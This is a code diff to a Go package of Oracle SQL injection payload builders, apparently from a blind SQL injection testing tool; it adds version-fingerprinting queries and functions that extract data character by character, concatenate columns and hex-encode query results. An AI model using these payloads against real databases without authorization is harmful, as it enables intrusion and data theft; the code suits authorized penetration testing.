@@ -1,6 +1,9 @@
 package payloads
 
-import "fmt"
+import (
+	"fmt"
+	"strings"
+)
 
 // OraclePayloads implements payloads for Oracle Database
 type OraclePayloads struct{}
@@ -15,7 +18,10 @@ func (o *OraclePayloads) GetName() string {
 
 func (o *OraclePayloads) GetVersionQueries() []string {
 	return []string{
-		"SELECT banner FROM v$version WHERE ROWNUM=1",
+		// 18c+ adds the release update, e.g. "...Release 19.0.0.0.0 - Production\nVersion 19.3.0.0.0"
+		"SELECT banner_full FROM v$version WHERE ROWNUM=1",
+		// The database row, the others describe PL/SQL, CORE, TNS... in no set order
+		"SELECT banner FROM v$version WHERE banner LIKE 'Oracle%' AND ROWNUM=1",
 		"SELECT version FROM v$instance",
 		"SELECT * FROM v$version WHERE ROWNUM=1",
 	}
@@ -42,6 +48,23 @@ func (o *OraclePayloads) GetCharPayload(query string, pos int, n int) string {
 	return fmt.Sprintf("ASCII(SUBSTR((%s),%d,1))>%d", query, pos, n)
 }
 
+func (o *OraclePayloads) GetCodePayload(query string, pos int, n int) string {
+	// ASCII() returns the encoded bytes for multibyte chars, so read the UTF-16
+	// code units instead, combining surrogate pairs into their code point
+	unit := fmt.Sprintf("TO_NUMBER(RAWTOHEX(UTL_I18N.STRING_TO_RAW(SUBSTR((%s),%d,1),'AL16UTF16')),'XXXXXXXX')", query, pos)
+	return fmt.Sprintf("(SELECT CASE WHEN u>65535 THEN (TRUNC(u/65536)-55296)*1024+MOD(u,65536)-56320+65536 ELSE u END FROM (SELECT %s u FROM dual))>%d", unit, n)
+}
+
+func (o *OraclePayloads) GetConcatPayload(columns []string, delim string) string {
+	// Oracle treats NULL as an empty string in || concatenation
+	return strings.Join(columns, fmt.Sprintf("||'%s'||", delim))
+}
+
+func (o *OraclePayloads) GetHexQuery(query string) string {
+	// RAWTOHEX on a string would implicitly run HEXTORAW on it
+	return fmt.Sprintf("RAWTOHEX(UTL_RAW.CAST_TO_RAW((%s)))", query)
+}
+
 func (o *OraclePayloads) GetSubstringFunc() string {
 	return "SUBSTR"
 }
@@ -53,3 +76,8 @@ func (o *OraclePayloads) GetLengthFunc() string {
 func (o *OraclePayloads) WrapCondition(condition string) string {
 	return condition
 }
+
+func (o *OraclePayloads) QuoteIdentifier(name string) string {
+	// Quoted names are case-sensitive, only quote when needed
+	return quoteIdentifier(name, `"`, `"`, needsQuoting)
+}